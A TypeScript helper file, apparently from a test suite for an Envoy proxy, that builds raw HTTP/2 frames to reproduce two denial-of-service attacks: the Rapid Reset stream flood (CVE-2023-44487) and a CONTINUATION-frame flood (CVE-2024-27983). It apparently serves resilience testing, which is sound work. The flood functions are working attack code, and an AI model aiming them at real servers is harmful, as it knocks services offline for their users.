// Raw HTTP/2 frames on a socket, which client libraries do not send. https://www.rfc-editor.org/rfc/rfc9113

import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import type { Teardowns } from './real-envoy.ts'

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
const TYPES = { headers: 1, resetStream: 3, settings: 4, goaway: 7, continuation: 9 } as const
const END_HEADERS = 4
const FRAME_HEAD_BYTES = 9
const CANCEL = 8

export interface Flood {
  /** The number of units (streams or frames) that were written before the peer ended the connection. */
  readonly sent: number
  /** Whether the peer ended it. If not, it read all units. */
  readonly ended: boolean
}

/** Writes `unit(0)`, `unit(1)`, … on a new connection until the peer ends it, or until `most` are written and read. */
async function flood(
  t: Teardowns,
  address: string,
  most: number,
  unit: (index: number) => Buffer,
): Promise<Flood> {
  const socket = await open(t, address)
  let isOver = false
  const over = new Promise<void>((resolve) => {
    const end = () => {
      isOver = true
      resolve()
    }
    socket.once('close', end).once('end', end)
  })
  let sent = 0
  while (sent < most && !isOver) {
    const isRoomLeft = socket.write(unit(sent))
    sent += 1
    if (!isRoomLeft) await Promise.race([drained(socket), over])
  }
  // A PING ACK means that the peer has read all frames before it.
  if (!isOver) await Promise.race([pong(socket), over])
  socket.destroy()
  return { sent, ended: isOver }
}

/** Opens streams and resets each at once (CVE-2023-44487). */
export function rapidReset(
  t: Teardowns,
  address: string,
  path: string,
  most: number,
  contentType?: string,
): Promise<Flood> {
  const block = headerBlock(path, contentType)
  return flood(t, address, most, (index) => {
    const stream = 2 * index + 1
    return Buffer.concat([
      frame(TYPES.headers, END_HEADERS, stream, block),
      frame(TYPES.resetStream, 0, stream, word(CANCEL)),
    ])
  })
}

/** One header block in up to `most` frames; the last one ends it. CVE-2024-27983 is about blocks that never end. */
export function continuationFlood(t: Teardowns, address: string, path: string, most: number): Promise<Flood> {
  const begin = frame(TYPES.headers, 0, 1, headerBlock(path))
  return flood(t, address, most, (index) =>
    index === 0
      ? begin
      : frame(
          TYPES.continuation,
          index === most - 1 ? END_HEADERS : 0,
          1,
          literal(`x-${index}`, 'x'.repeat(100)),
        ),
  )
}

async function open(t: Teardowns, address: string): Promise<Socket> {
  const [host, port] = address.split(':')
  const socket = connect(Number(port), host)
  t.teardown(() => socket.destroy())
  socket.on('error', () => {})
  await once(socket, 'connect')
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(TYPES.settings, 0, 0, Buffer.alloc(0))]))
  return socket
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.once('drain', resolve))
}

const PING = 6
const ACK = 1

async function pong(socket: Socket): Promise<void> {
  const seen = new Promise<void>((resolve) => {
    let rest = Buffer.alloc(0)
    socket.on('data', (chunk: Buffer) => {
      rest = Buffer.concat([rest, chunk])
      while (rest.length >= FRAME_HEAD_BYTES) {
        const length = rest.readUIntBE(0, 3)
        if (rest.length < FRAME_HEAD_BYTES + length) return
        if (rest[3] === PING && rest[4] === ACK) resolve()
        rest = rest.subarray(FRAME_HEAD_BYTES + length)
      }
    })
  })
  socket.write(frame(PING, 0, 0, Buffer.alloc(8)))
  await seen
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(FRAME_HEAD_BYTES)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

function headerBlock(path: string, contentType = 'application/grpc'): Buffer {
  const headers = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'edge'],
    ['content-type', contentType],
    ['te', 'trailers'],
  ] as const
  return Buffer.concat(headers.map(([name, value]) => literal(name, value)))
}

/** A literal header field without indexing: https://www.rfc-editor.org/rfc/rfc7541#section-6.2.2 */
function literal(name: string, value: string): Buffer {
  const text = (one: string) => Buffer.concat([Buffer.of(one.length), Buffer.from(one)])
  return Buffer.concat([Buffer.of(0), text(name), text(value)])
}

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
